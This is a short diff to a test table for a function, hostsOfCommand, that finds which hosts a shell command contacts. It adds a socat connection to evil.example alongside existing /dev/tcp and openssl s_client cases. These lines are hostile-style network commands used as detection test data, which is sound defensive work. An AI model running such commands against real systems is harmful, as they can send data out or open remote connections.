@@ -31,6 +31,7 @@ test.each([
   ['npm test', [], false],
   ['openssl s_client -connect h.example:443', ['h.example', 's_client'], false],
   ['tee /dev/tcp/evil.example/80', ['evil.example'], false],
+  ['socat - TCP:evil.example:80', ['evil.example'], false],
   ['ls example.com', [], false],
 ] as const)('P-02 %s reaches %j', (command, hosts, isOpen) => {
   const found = hostsOfCommand(command.split(' '));
